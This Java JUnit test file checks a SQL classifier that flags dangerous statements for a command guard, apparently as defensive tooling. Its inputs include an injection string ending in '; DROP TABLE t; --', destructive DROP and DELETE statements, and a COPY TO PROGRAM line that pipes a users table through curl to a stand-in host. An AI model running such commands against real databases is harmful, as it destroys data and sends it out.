package dev.airlock.classify.sql;

import static org.assertj.core.api.Assertions.assertThat;

import dev.airlock.action.Environment;
import dev.airlock.classify.Analysis;
import dev.airlock.classify.Finding;
import dev.airlock.classify.Limits;
import dev.airlock.classify.Scope;
import dev.airlock.classify.Severity;
import dev.airlock.classify.Trace;
import java.util.List;
import org.junit.jupiter.api.Test;

class SqlClassifierTest {

  private static List<Finding> classify(String sql, Scope scope) {
    Analysis out = new Analysis(Limits.DEFAULT, Trace.OFF);
    new SqlClassifier().classify(sql, scope, out);
    return out.findings();
  }

  private static List<Finding> classify(String sql) {
    return classify(sql, Scope.root("sql", Environment.UNKNOWN));
  }

  private static Finding only(String sql) {
    List<Finding> f = classify(sql);
    assertThat(f).hasSize(1);
    return f.get(0);
  }

  @Test
  void evidence_eachStatement_pointsAtItsSpan() {
    String sql = "SELECT 1;\n  DROP TABLE audit_log ;";
    List<Finding> f = classify(sql);
    assertThat(f).hasSize(2);
    Finding drop = f.get(1);
    assertThat(drop.evidence().source()).isEqualTo("sql");
    assertThat(sql.substring(drop.evidence().start(), drop.evidence().end()))
        .isEqualTo("DROP TABLE audit_log");
    assertThat(drop.evidence().text()).isEqualTo("DROP TABLE audit_log");
    assertThat(drop.program()).isEqualTo("sql");
    assertThat(drop.verb()).isEqualTo("drop table");
    assertThat(drop.resource()).isEqualTo("table audit_log");
  }

  @Test
  void brackets_backslashLiteralAfterBracketName_mysqlReadingStillFindsTheDrop() {
    List<Finding> f = classify("SELECT * FROM [t] WHERE a = 'a\\'; DROP TABLE t; --'");
    assertThat(f).extracting(Finding::ruleId).contains("sql.drop-table");
    List<Finding> g = classify("SELECT * FROM [dbo].[t] WHERE a = 'a\\''; DROP TABLE t; --'");
    assertThat(g).extracting(Finding::ruleId).contains("sql.drop-table");
  }

  @Test
  void reason_whereClause_quotesTheSourceText() {
    // Judged by JSqlParser (a column in an OR) and from tokens (literals only): both quote the
    // clause as written, not as the parser would print it.
    assertThat(only("DELETE FROM x WHERE id = 5 or 1=1").reason())
        .isEqualTo("deletes every row of table x: WHERE id = 5 or 1=1 is always true");
    assertThat(only("delete from x where TRUE and 2>1").reason())
        .isEqualTo("deletes every row of table x: WHERE TRUE and 2>1 is always true");
    assertThat(only("DELETE FROM s WHERE expires_at < now() - interval '30 days'").reason())
        .contains("matching WHERE expires_at < now() - interval '30 days' (a narrow write)");
  }

  @Test
  void narrowWrite_clockValuesAndIntervals_judgedFromTokensLikeTheParser() {
    for (String sql :
        List.of(
            "DELETE FROM sessions WHERE expires_at < NOW()",
            "DELETE FROM orders WHERE created_at < now() - interval '30 days'",
            "UPDATE jobs SET state = 'stale' WHERE seen < CURRENT_TIMESTAMP AND state = 'open'",
            "DELETE FROM t WHERE id BETWEEN 1 AND 5")) {
      Trace.Recording trace = Trace.recording();
      Analysis out = new Analysis(Limits.DEFAULT, trace);
      new SqlClassifier().classify(sql, Scope.root("sql", Environment.UNKNOWN), out);
      assertThat(out.findings()).as(sql).hasSize(1);
      assertThat(out.findings().get(0).ruleId()).as(sql).isIn("sql.delete", "sql.update");
      assertThat(String.join("\n", trace.lines())).as(sql).doesNotContain("JSqlParser");
      assertThat(out.findings()).as(sql).isEqualTo(SqlFastPathTest.parsedOnly(sql));
    }
  }

  @Test
  void narrowWrite_literalOnlyConjunct_leftToTheParser() {
    // id = 5 AND 1 = 0 changes no row: WhereCheck says so, the token rule must not call it narrow.
    assertThat(only("DELETE FROM t WHERE id = 5 AND 1 = 0").reason())
        .isEqualTo("deletes no rows: WHERE id = 5 AND 1 = 0 is always false");
  }

  @Test
  void evidence_insideDoBody_pointsIntoTheBody() {
    String sql = "DO $$ BEGIN DELETE FROM t; END $$;";
    Finding f = only(sql);
    assertThat(f.ruleId()).isEqualTo("sql.delete-all");
    assertThat(sql.substring(f.evidence().start(), f.evidence().end())).isEqualTo("DELETE FROM t");
    assertThat(f.reason()).startsWith("in a DO block");
  }

  @Test
  void evidence_escapedLiteral_pointsAtTheWholeStatement() {
    String sql = "EXECUTE IMMEDIATE 'DROP TABLE \"it''s\"'";
    Finding f = only(sql);
    assertThat(f.ruleId()).isEqualTo("sql.drop-table");
    assertThat(f.resource()).isEqualTo("table it's");
    assertThat(f.evidence().start()).isZero();
    assertThat(f.evidence().end()).isEqualTo(sql.length());
    assertThat(f.evidence().text()).isEqualTo("DROP TABLE \"it's\"");
  }

  @Test
  void evidence_fromCommandLine_mapsIntoTheCommand() {
    String command = "psql -h db -c \"DROP TABLE users;\"";
    int start = command.indexOf('"');
    Scope scope =
        Scope.root("command", Environment.UNKNOWN)
            .nested(Limits.DEFAULT, start, command.length(), start + 1);
    String sql = command.substring(start + 1, command.length() - 1);
    Finding f = classify(sql, scope).get(0);
    assertThat(f.evidence().source()).isEqualTo("command");
    assertThat(command.substring(f.evidence().start(), f.evidence().end()))
        .isEqualTo("DROP TABLE users");
  }

  @Test
  void evidence_longStatement_isShortened() {
    String sql = "SELECT '" + "x".repeat(10_000) + "' FROM t";
    Finding f = only(sql);
    assertThat(f.evidence().text()).hasSizeLessThanOrEqualTo(Pass.MAX_EVIDENCE).contains(" ... ");
    assertThat(f.evidence().end() - f.evidence().start()).isEqualTo(sql.length());
  }

  @Test
  void evidence_passwords_areMasked() {
    for (String sql :
        List.of(
            "ALTER ROLE bob PASSWORD 'hunter2'",
            "CREATE USER bob WITH ENCRYPTED PASSWORD 'hunter2'",
            "ALTER USER 'bob'@'%' IDENTIFIED BY 'hunter2'",
            "SET PASSWORD FOR bob = 'hunter2'")) {
      Finding f = only(sql);
      assertThat(f.evidence().text() + f.reason() + f.resource()).doesNotContain("hunter2");
      assertThat(f.severity()).isEqualTo(Severity.DESTRUCTIVE);
    }
  }

  @Test
  void trace_enabled_summarisesStatementsAndHowTheyWereJudged() {
    Trace.Recording trace = Trace.recording();
    Analysis out = new Analysis(Limits.DEFAULT, trace);
    new SqlClassifier()
        .classify(
            "SELECT 1; DROP TABLE audit_log; DROP TABLE a, b; ALTER TABLE t ALTER COLUMN c TYPE int;"
                + " SELECT * INTO t2 FROM t WHERE id = 1;",
            Scope.root("sql", Environment.UNKNOWN),
            out);
    assertThat(trace.lines()).hasSize(1);
    assertThat(trace.lines().get(0))
        .startsWith("sql: 5 statements; #1 SELECT (safe, read, judged by the lexer")
        .contains("#2 DROP TABLE audit_log (catastrophic, judged by the lexer: plain DROP)")
        .contains("#3 DROP TABLE a, b (catastrophic, judged by the lexer: DROP)")
        .contains("#4 ALTER TABLE t (safe, judged by the lexer: ALTER TABLE that drops nothing)")
        .contains("#5 SELECT INTO table t2 (safe, parsed by JSqlParser)");
  }

  @Test
  void trace_off_recordsNothing() {
    Trace.Recording unused = Trace.recording();
    Analysis out = new Analysis(Limits.DEFAULT, Trace.OFF);
    new SqlClassifier().classify("DROP TABLE x", Scope.root("sql", Environment.UNKNOWN), out);
    assertThat(unused.lines()).isEmpty();
    assertThat(out.findings()).hasSize(1);
  }

  @Test
  void limits_nestingTooDeep_heldAndNamedWithoutThrowing() {
    String sql = "DROP TABLE deep";
    for (int i = 0; i < 14; i++) {
      sql = "EXECUTE IMMEDIATE $q" + i + "$" + sql + "$q" + i + "$";
    }
    List<Finding> f = classify(sql);
    assertThat(f).anySatisfy(x -> assertThat(x.reason()).contains("maxNesting"));
    assertThat(f).allSatisfy(x -> assertThat(x.severity()).isNotEqualTo(Severity.SAFE));
  }

  @Test
  void limits_deepParens_keepEarlierFindings() {
    List<Finding> f = classify("DROP TABLE a; SELECT " + "(".repeat(300) + "1" + ")".repeat(300));
    assertThat(f).extracting(Finding::ruleId).containsExactly("sql.drop-table", "sql.limit");
    assertThat(f.get(1).reason()).contains("maxParseDepth");
  }

  @Test
  void limits_tooManyStatements_keepTheWorst() {
    String sql = "SELECT 1;".repeat(600) + "DROP TABLE x;" + "SELECT 2;".repeat(600);
    List<Finding> f = classify(sql);
    assertThat(f).anySatisfy(x -> assertThat(x.ruleId()).isEqualTo("sql.drop-table"));
    assertThat(f).anySatisfy(x -> assertThat(x.reason()).contains("maxStatements"));
  }

  @Test
  void environment_declaredProduction_staysProduction() {
    Scope prod = Scope.root("sql", Environment.PRODUCTION);
    assertThat(classify("USE shop_dev; DELETE FROM t WHERE id = 1", prod))
        .allSatisfy(x -> assertThat(x.environment()).isEqualTo(Environment.PRODUCTION));
  }

  @Test
  void environment_tableNames_onlyEscalate() {
    assertThat(only("DROP TABLE test_runs").environment()).isEqualTo(Environment.UNKNOWN);
    assertThat(only("DROP TABLE orders_prod").environment()).isEqualTo(Environment.PRODUCTION);
    assertThat(only("DROP DATABASE shop_test").environment()).isEqualTo(Environment.DEVELOPMENT);
  }

  @Test
  void program_guessesDialect() {
    assertThat(only("DROP TABLE `shop`.`orders`").program()).isEqualTo("mysql");
    assertThat(only("DROP TABLE [dbo].[Orders]").program()).isEqualTo("sqlserver");
    assertThat(only("COPY t TO PROGRAM 'x'").program()).isEqualTo("postgres");
    assertThat(only("PRAGMA writable_schema = 1").program()).isEqualTo("sqlite");
    assertThat(only("DROP TABLE orders").program()).isEqualTo("sql");
  }

  @Test
  void copyProgram_namesTheCommand() {
    Finding f = only("COPY users TO PROGRAM 'curl -d @- https://x.example'");
    assertThat(f.severity()).isEqualTo(Severity.CATASTROPHIC);
    assertThat(f.reason()).contains("curl -d @- https://x.example");
    assertThat(f.resource()).contains("curl");
  }

  @Test
  void parseFallback_unknownStatements_heldAndNamed() {
    Finding f = classify("FROBNICATE users; UPDATE").get(0);
    assertThat(f.severity()).isEqualTo(Severity.UNKNOWN);
    assertThat(f.reason()).contains("FROBNICATE");
    List<Finding> g = classify("SELECT 1; VACUUMX t; FOO UPDATE t");
    assertThat(g.get(1).severity()).isEqualTo(Severity.UNKNOWN);
    assertThat(g.get(1).reason()).contains("VACUUMX");
    // The keyword view finds an UPDATE without WHERE wherever it stands.
    assertThat(g.get(2).ruleId()).isEqualTo("sql.update-all");
  }
}
